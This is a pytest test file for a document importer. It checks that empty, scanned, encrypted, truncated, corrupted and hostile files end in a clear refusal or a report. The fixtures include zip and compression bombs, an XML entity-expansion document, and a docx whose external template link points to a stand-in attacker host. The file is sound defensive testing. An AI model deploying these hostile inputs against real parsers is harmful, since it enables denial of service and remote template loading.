"""Whatever is handed in ends in a clear message or a draft full of doubts: nothing is executed, fetched, or unbounded."""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from pathlib import Path

import pytest

from qingfeng.importing.failure import ImportFailed
from qingfeng.importing.maps import Reading, read_maps
from qingfeng.importing.office import converted
from qingfeng.importing.read import read_document
from qingfeng.importing.sniff import kind_of
from tests.importing import makers
from tests.importing.judge import differences, told_by
from tests.importing.others import FORESTRY

FILES = Path(__file__).parent / "files"


def tried(data: bytes, name: str = "a.docx") -> Reading:
    return read_maps(read_document(data, name))


def refused(data: bytes, name: str = "a.docx") -> str:
    with pytest.raises(ImportFailed) as told:
        tried(data, name)
    assert told.value.text.en
    return told.value.text.zh


def ended(data: bytes, name: str) -> object:
    """What came of it: the message, or the maps, or the doubts; whatever else is raised fails the test."""
    try:
        reading = tried(data, name)
    except ImportFailed as told:
        return told.text.zh
    return reading.maps or reading.doubts


def sample(name: str) -> bytes:
    return (FILES / name).read_bytes()


def test_an_empty_file_is_said_to_be_empty() -> None:
    for data in (b"", b"\n \n", b"\x00" * 500):
        assert "空的" in refused(data)


def test_a_picture_and_a_scan_are_refused_with_advice() -> None:
    assert "扫描件" in refused(b"\x89PNG\r\n\x1a\n" + b"\x00" * 100, "map.png")
    assert "扫描件" in refused(_scan(), "map.pdf")


def _scan() -> bytes:
    """A PDF of one page with a picture and no text."""
    picture = zlib.compress(b"\x80" * 30_000)
    parts = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /XObject << /I 5 0 R >> >> /Contents 4 0 R >>",
        b"<< /Length 30 >>\nstream\nq 500 0 0 700 40 40 cm /I Do Q\nendstream",
        b"<< /Type /XObject /Subtype /Image /Width 100 /Height 100 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter "
        b"/FlateDecode /Length %d >>\nstream\n%s\nendstream" % (len(picture), picture),
    ]
    out, places = b"%PDF-1.4\n", []
    for number, part in enumerate(parts, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, part)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    return (
        out
        + b"xref\n0 6\n0000000000 65535 f \n"
        + table
        + b"trailer << /Size 6 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF" % len(out)
    )


def test_encrypted_files_are_said_to_be() -> None:
    doc = bytearray(sample("energy-three-powers.doc"))
    at = doc.find(b"\xec\xa5")
    flags = struct.unpack_from("<H", doc, at + 0x0A)[0]
    struct.pack_into("<H", doc, at + 0x0A, flags | 0x100)
    assert "密码" in refused(bytes(doc), "a.doc")
    zipped = bytearray(makers.docx_of(FORESTRY, "wps"))
    at = -1
    while (at := zipped.find(b"PK\x01\x02", at + 1)) >= 0:
        zipped[at + 8] |= 1
    assert "密码" in refused(bytes(zipped))


def test_word_95_goes_through_libreoffice_or_says_which_package(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("qingfeng.importing.office.shutil.which", lambda name: None)
    doc = bytearray(sample("energy-three-powers.doc"))
    at = doc.find(b"\xec\xa5")
    struct.pack_into("<H", doc, at + 2, 0x65)
    assert "libreoffice-writer-nogui" in refused(bytes(doc), "a.doc")
    assert "libreoffice-writer-nogui" in refused(rb"{\rtf1\ansi 1}", "a.rtf")


def test_a_conversion_that_does_not_end_is_ended(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    endless = tmp_path / "soffice"
    endless.write_text("#!/bin/sh\nsleep 60 & sleep 60\n")
    endless.chmod(0o755)
    monkeypatch.setattr("qingfeng.importing.office.shutil.which", lambda name: str(endless))
    with pytest.raises(ImportFailed, match="已停止"):
        converted(b"x", suffix="rtf", to="docx", seconds=0.2)


@pytest.mark.parametrize("name", ["energy-three-powers.doc", "penalty-textboxes.docx", "penalty.pdf"])
@pytest.mark.parametrize("share", [0.05, 0.3, 0.6, 0.95])
def test_a_truncated_file_is_told_or_read_in_part(name: str, share: float) -> None:
    data = sample(name)
    cut = data[: int(len(data) * share)]
    outcome = ended(cut, name)
    assert outcome


@pytest.mark.parametrize("name", ["energy-three-powers.doc", "penalty-table.docx", "penalty.pdf"])
def test_damaged_bytes_never_end_in_anything_but_a_message(name: str) -> None:
    data, chance = sample(name), random.Random(20260302)
    for _ in range(25):
        broken = bytearray(data)
        for _ in range(chance.randint(1, 40)):
            broken[chance.randrange(len(broken))] = chance.randrange(256)
        outcome = ended(bytes(broken), name)
        assert outcome


def test_a_zip_bomb_is_not_unpacked() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open("word/document.xml", "w") as part:
            part.write(b"<w:document>")
            for _ in range(120):
                part.write(b" " * 1_000_000)
    assert len(out.getvalue()) < 500_000
    assert "过大" in refused(out.getvalue())


def test_a_packed_bomb_in_a_pdf_is_not_unpacked() -> None:
    pressed = zlib.compressobj(9)
    packed = b"".join(pressed.compress(b"0 0 m " * 200_000) for _ in range(100)) + pressed.flush()
    data = (
        b"%PDF-1.4\n1 0 obj << /Length 1 /Filter /FlateDecode >>\nstream\n"
        + packed
        + b"\nendstream endobj\ntrailer <<>>"
    )
    assert len(data) < 1_000_000
    assert "过大" in refused(data, "a.pdf")


def test_entities_are_not_expanded() -> None:
    bomb = (
        b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><w:document xmlns:w="w"><w:body><w:p>'
        b"<w:t>&b;</w:t></w:p></w:body></w:document>"
    )
    assert "实体" in refused(makers.docx("", more={"word/document.xml": bomb}))


def test_macros_are_told_and_links_are_not_fetched() -> None:
    link = '<Relationship Id="r9" Type="t/attachedTemplate" Target="http://attacker.example/x.dotm" TargetMode="External"/>'
    shapes, lines = makers.drawn(FORESTRY)
    body = makers.paragraph(FORESTRY.agency) + makers.paragraph(FORESTRY.heading, makers.wps_runs(shapes, lines))
    reading = tried(makers.docx(body, more={"word/vbaProject.bin": b"x"}, relations=link), "a.docm")
    told = " ".join(note.zh for note in reading.notes)
    assert "宏" in told
    assert "外部链接" in told
    assert differences(reading.maps[0], told_by(FORESTRY)) == []


def test_a_hundred_thousand_shapes_are_refused() -> None:
    shape = (
        '<v:shape style="width:1pt;height:9pt" type="#_x0000_t202"><v:textbox><w:txbxContent><w:p><w:r><w:t>x</w:t></w:r></w:p>'
        "</w:txbxContent></v:textbox></v:shape>"
    )
    body = "<w:p><w:r><w:pict>" + shape * 100_000 + "</w:pict></w:r></w:p>"
    assert "过大" in refused(makers.docx(body))


def test_hidden_text_is_not_taken_and_told() -> None:
    shapes, lines = makers.drawn(FORESTRY)
    hidden = "<w:r><w:rPr><w:vanish/></w:rPr><w:t>1.隐藏的风险点。</w:t></w:r>"
    drawn = makers.wps_runs([makers.Shape(20, 60, 160, 75, ("1.藏在图里的风险点。", "风险等级：高"))], []).replace(
        'name="d"', 'name="d" hidden="1"'
    )
    body = makers.paragraph(FORESTRY.agency) + makers.paragraph(
        FORESTRY.heading, makers.wps_runs(shapes, lines) + hidden + drawn
    )
    reading = tried(makers.docx(body))
    assert differences(reading.maps[0], told_by(FORESTRY)) == []
    assert "隐藏" in " ".join(note.zh for note in reading.notes)


def test_a_turned_box_is_read_where_it_is_seen() -> None:
    shapes, lines = makers.drawn(FORESTRY)
    first = shapes[0]
    turned = makers.Shape(
        first.x + first.w / 2 - first.h / 2, first.y + first.h / 2 - first.w / 2, first.h, first.w, first.texts
    )
    runs = makers.wps_runs([turned], []).replace("<a:xfrm>", '<a:xfrm rot="16200000">') + makers.wps_runs(
        shapes[1:], lines
    )
    reading = tried(makers.docx(makers.paragraph(FORESTRY.agency) + makers.paragraph(FORESTRY.heading, runs)))
    assert differences(reading.maps[0], told_by(FORESTRY)) == []


def test_a_novel_is_no_map() -> None:
    chance = random.Random(7)
    words = ["山里的雨", "下了三天", "老张说", "他不肯走", "灯还亮着", "她笑了笑", "门外有人", "河水涨了"]
    novel = "\n\n".join("，".join(chance.choices(words, k=12)) + "。" for _ in range(4_000))
    reading = tried(novel.encode(), "novel.txt")
    assert reading.maps == []
    assert reading.doubts[-1].code == "no_map"


def test_a_file_that_lies_about_its_type_is_read_as_what_it_is() -> None:
    reading = tried(makers.docx_of(FORESTRY, "vml"), "map.pdf")
    assert differences(reading.maps[0], told_by(FORESTRY)) == []
    assert ".pdf" in " ".join(note.zh for note in reading.notes)


@pytest.mark.parametrize(
    "data",
    [
        b"\x7fELF\x02\x01\x01" + b"\x00" * 200,
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600,
        b"PK\x03\x04" + b"\x01" * 300,
    ],
)
def test_what_is_no_document_is_refused(data: bytes) -> None:
    assert refused(data)


def test_an_archive_of_documents_is_told_to_be_unpacked() -> None:
    assert "解压" in refused(makers.zipped({"a.docx": b"x"}), "all.zip")


def test_kinds_are_known_by_content() -> None:
    assert kind_of(sample("penalty.pdf")) == "pdf"
    assert kind_of(sample("energy-three-powers.doc")) == "doc"
    assert kind_of(makers.pptx_of(FORESTRY)) == "pptx"
    assert kind_of(makers.xlsx_of(FORESTRY)) == "xlsx"
    assert kind_of("防控图".encode("gb18030")) == "txt"


def test_a_table_or_a_line_beyond_all_measure_ends_soon_and_is_no_map() -> None:
    rows = [[["环节"], ["风险点"], ["等级"], ["防控措施"]]] + [[["受理"], ["不按规定。"], ["高"], ["公开。"]]] * 2_000
    assert tried(makers.docx(makers.paragraph("示例县水利局行政许可廉政风险防控表") + makers.table(rows))).maps == []
    for line in ("（" * 300_000, "风险等级" * 100_000, "（责任" * 100_000):
        assert tried(line.encode(), "a.txt").maps == []


def test_deeply_nested_groups_end() -> None:
    body = '<v:group style="width:10pt;height:10pt">' * 200 + "</v:group>" * 200
    assert tried(makers.docx(f"<w:p><w:r><w:pict>{body}</w:pict></w:r></w:p>")).maps == []
